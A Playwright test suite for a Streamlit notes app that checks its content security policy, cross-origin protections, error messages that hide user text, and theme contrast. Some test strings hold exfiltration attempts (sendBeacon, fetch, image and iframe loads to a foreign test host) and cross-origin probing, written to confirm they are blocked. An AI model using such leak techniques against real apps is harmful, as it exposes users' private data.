"""The gate in a real Chromium: what other pages cannot do to ours, and what ours cannot send away."""

from collections.abc import Iterator

import pytest

from tests.conftest import downloaded, press_on, settle, until
from tests.gate.copied_workbook import copied_workbook
from tests.gate.foreign_page import ForeignPage
from tests.running import ROOT, RunningWorkbook

pytestmark = pytest.mark.trust

WATCH = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.stopped.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
ATTACK = """
async (target) => {
  const loads = (name, set) => new Promise((tell) => {
    const element = document.createElement(name);
    element.onload = () => tell("came");
    element.onerror = () => tell("refused");
    set(element);
    document.body.append(element);
  });
  const asks = (path, options) => fetch(target + path, options).then((answer) => answer.type, () => "refused");
  const socket = new Promise((tell) => {
    const opened = new WebSocket(target.replace("http", "ws") + "/_stcore/stream", ["streamlit"]);
    opened.onopen = () => tell("came");
    opened.onerror = () => tell("refused");
  });
  return {
    read: await asks("/steady/here"),
    upload: await asks("/_stcore/upload_file/a/b", {method: "PUT", body: "words"}),
    icon: await loads("img", (element) => { element.src = target + "/favicon.png"; }),
    script: await loads("script", (element) => { element.src = target + "/static/js/none.js"; }),
    socket: await socket,
  };
}
"""
WORKING = """
import altair as alt, pandas as pd
numbers = pd.DataFrame({"day": [1, 2, 3], "calm": [4, 6, 5]})
st.altair_chart(alt.Chart(numbers).mark_line(point=True).encode(x="day", y="calm", tooltip="calm"), alt="A line")
st.dataframe(numbers)
# As on our screens: a run of the whole screen, begun by the same press, may drop Streamlit's answer to it.
st.download_button("Take it along", data=lambda: "my words", file_name="notes.txt", on_click="ignore")
st.file_uploader("Bring a file")
box = st.components.v2.component("box", html="<textarea aria-label='Box'></textarea>", js='''
export default function ({ parentElement, setStateValue }) {
  parentElement.querySelector("textarea").oninput = (event) => setStateValue("words", event.target.value);
}''')
st.text(f"came back: {box(key='box', on_words_change=lambda: None).words}")
"""
QUIET = """
st.text("quiet")
st.text_area("Words")
st.text_input("Line")
"""
THEMED = """
st.text(f"drawn for {st.context.theme.type}")
st.button("Save check-in", type="primary")
st.multiselect("Tags", ["slept"], default=["slept"])
"""
OURS = "window.ours = (window.ours || 0) + 1;"
SCRIPTS = f"""
st.html("<script>window.foreign = true</script>", unsafe_allow_javascript=True)
st.html("<script>{OURS}</script>", unsafe_allow_javascript=True)
"""
LEAKING = """
there = "{there}"
st.markdown(f"![a picture]({{there}}/markdown.png)")
st.html(f"<img src='{{there}}/html.png'><p style='background: url({{there}}/style.png)'>words</p>")
st.html(f"<style>p {{{{ list-style-image: url({{there}}/sheet.png); display: list-item }}}}</style>")
leak = st.components.v2.component("leak", html="<p></p>", js=f'''
export default function () {{{{
  new Image().src = "{{there}}/script.png";
  navigator.sendBeacon("{{there}}/beacon", "words");
  fetch("{{there}}/fetch", {{{{mode: "no-cors"}}}}).catch(() => {{{{}}}});
  const frame = document.createElement("iframe");
  frame.src = "{{there}}/frame"; document.body.append(frame);
  window.tried = true;
}}}}''')
leak(key="leak")
"""
FAILING = """
def fail():
    raise ValueError(st.session_state["hers"])
st.text_input("Words", "he wants to leave", key="hers")
st.button("In a callback", on_click=fail)
if st.button("On the screen"):
    fail()
@st.fragment
def piece():
    if st.button("In a fragment"):
        fail()
piece()
"""
CONTRAST = """
(element) => {
  const shine = (colour) => colour.match(/[\\d.]+/g).slice(0, 3).map((part) => part / 255)
    .map((part) => part <= 0.04045 ? part / 12.92 : ((part + 0.055) / 1.055) ** 2.4)
    .reduce((sum, part, at) => sum + part * [0.2126, 0.7152, 0.0722][at], 0);
  const style = getComputedStyle(element);
  const [low, high] = [shine(style.color), shine(style.backgroundColor)].sort((a, b) => a - b);
  return (high + 0.05) / (low + 0.05);
}
"""


SETTLED = "(element) => Promise.all(element.getAnimations().map((one) => one.finished)).then(() => true)"


def stopped_on(page) -> list[str]:
    return page.evaluate("window.stopped")


@pytest.fixture(scope="module")
def foreign() -> Iterator[ForeignPage]:
    with ForeignPage() as there:
        yield there


@pytest.fixture(scope="module")
def running(tmp_path_factory, foreign) -> Iterator[RunningWorkbook]:
    """A workbook with a screen for each rule; none of them writes in its journal."""
    folder = tmp_path_factory.mktemp("gate")
    script = copied_workbook(
        folder / "workbook",
        quiet=QUIET,
        leaking=LEAKING.format(there=foreign.url),
        working=WORKING,
        scripts=SCRIPTS,
        failing=FAILING,
        unreadable="if True print('he wants to leave')",
        themed=THEMED,
    )
    shell = folder / "workbook" / "steady" / "gate" / "page"
    shell.joinpath("ours.js").write_text(OURS, encoding="utf-8")
    with RunningWorkbook(folder / "journal", script=script) as running:
        yield running


def test_another_page_can_neither_read_load_nor_reach_ours(running, foreign, page):
    page.goto(foreign.url)
    tried = page.evaluate(ATTACK, running.url)
    assert tried == dict.fromkeys(("read", "upload", "icon", "script", "socket"), "refused")


def test_another_page_cannot_frame_ours(running, foreign, page):
    page.goto(foreign.url)
    page.evaluate("(there) => { document.body.innerHTML = `<iframe src='${there}'></iframe>`; }", running.url)
    page.wait_for_timeout(1500)
    assert page.frames[1].url == "chrome-error://chromewebdata/"


def wait_until(page, condition):
    """Ask again and again from outside: Playwright's own waiting evaluates a string in the page, which is forbidden."""
    until(page, lambda: page.evaluate(f"Boolean({condition})"))


def test_nothing_on_a_screen_can_send_or_fetch_anything_elsewhere(running, foreign, page):
    page.add_init_script(WATCH)
    # The tests before this one opened the other page themselves.
    foreign.visits.clear()
    page.goto(f"{running.url}/leaking")
    settle(page)
    wait_until(page, "window.tried")
    page.wait_for_timeout(1000)
    assert foreign.visits == []
    assert {f"img-src {foreign.url}/markdown.png", f"connect-src {foreign.url}/fetch"} <= set(stopped_on(page))
    assert {"style-src-elem inline", "style-src-attr inline"} <= set(stopped_on(page))
    page.context.styles_refused.clear()


def test_charts_tables_downloads_uploads_and_components_work(running, page):
    page.add_init_script(WATCH)
    page.goto(f"{running.url}/working")
    settle(page)
    page.locator("svg.marks path").first.wait_for()
    page.locator("[data-testid=stDataFrame] canvas").first.wait_for()
    assert downloaded(page, "Take it along").path().read_text() == "my words"
    page.locator("input[type=file]").set_input_files(
        {"name": "diary.csv", "mimeType": "text/csv", "buffer": b"date,mood\n"}
    )
    page.get_by_text("diary.csv").wait_for()
    page.get_by_label("Box").fill("written here")
    page.get_by_text("came back: written here").wait_for()
    # Streamlit's message reader tries WebAssembly for long numbers and does without.
    assert set(stopped_on(page)) <= {"script-src wasm-eval"}


def test_a_script_in_the_page_runs_only_when_it_is_a_file_of_ours(running, page):
    page.goto(f"{running.url}/scripts")
    settle(page)
    # Once from the start page, which links it, and once from the screen, below the one that is no file.
    wait_until(page, "window.ours === 2")
    page.wait_for_timeout(300)
    assert page.evaluate("[window.foreign, window.ours]") == [None, 2]


def test_a_first_screen_is_called_notes_has_our_icon_no_menu_of_streamlits_and_asks_no_spelling_service(running, page):
    page.add_init_script("""
      window.titles = [];
      new MutationObserver(() => window.titles.push(document.title))
        .observe(document, {subtree: true, childList: true});
    """)
    page.goto(running.url)
    settle(page)
    assert set(page.evaluate("window.titles")) <= {"", "Notes"}
    assert page.title() == "Notes"
    for address in ("/favicon.png", page.locator("link[rel~=icon]").get_attribute("href")):
        drawn = page.evaluate(
            "(at) => fetch(at).then((r) => r.arrayBuffer()).then((b) => [...new Uint8Array(b)])", address
        )
        assert bytes(drawn) == ROOT.joinpath("steady", "gate", "page", "icon.png").read_bytes()
    assert page.get_by_test_id("stAppDeployButton").count() == 0
    assert "Record" not in page.locator("body").inner_text()
    assert page.get_by_label("Words").evaluate("(box) => box.spellcheck") is False
    assert page.get_by_label("Line").evaluate("(box) => box.spellcheck") is False


def turn_to(page, name):
    press_on(page.get_by_role("navigation").get_by_role("link", name=name, exact=True))
    page.wait_for_url(f"**/{name}")
    settle(page)


def test_an_error_shows_a_kind_sentence_and_no_word_of_hers_anywhere(running, page):
    """On the screen, in a callback, in a piece of it, and in a screen that cannot be read at all."""
    kind = page.get_by_text("What you've saved is safe")
    page.goto(f"{running.url}/working")
    for place in ("On the screen", "In a callback", "In a fragment"):
        told = running.log().count("ValueError at pages/failing.py:4 < ")
        turn_to(page, "failing")
        assert kind.count() == 0
        page.get_by_role("button", name=place).click()
        kind.wait_for()
        assert_shows_no_trace(page, running)
        assert running.log().count("ValueError at pages/failing.py:4 < ") > told
        turn_to(page, "themed")
    turn_to(page, "unreadable")
    assert_shows_no_trace(page, running)


def assert_shows_no_trace(page, running):
    shown = page.locator("body").inner_text()
    for word in ("ValueError", "Traceback", "leave", "Google", "ChatGPT"):
        assert word not in shown
    assert "leave" not in running.log() and "Traceback" not in running.log()


def test_a_screen_is_drawn_anew_when_the_theme_turns_and_what_stands_on_the_primary_colour_can_be_read(running, page):
    page.emulate_media(color_scheme="light")
    page.goto(f"{running.url}/themed")
    for scheme in ("light", "dark", "light", "dark"):
        page.emulate_media(color_scheme=scheme)
        page.get_by_text(f"drawn for {scheme}").wait_for()
        settle(page)
        page.mouse.move(0, 0)
        for element in (page.get_by_test_id("stBaseButton-primary"), page.locator("[data-tag]").last):
            assert element.evaluate(SETTLED)
            assert element.evaluate(CONTRAST) >= 4.5, scheme
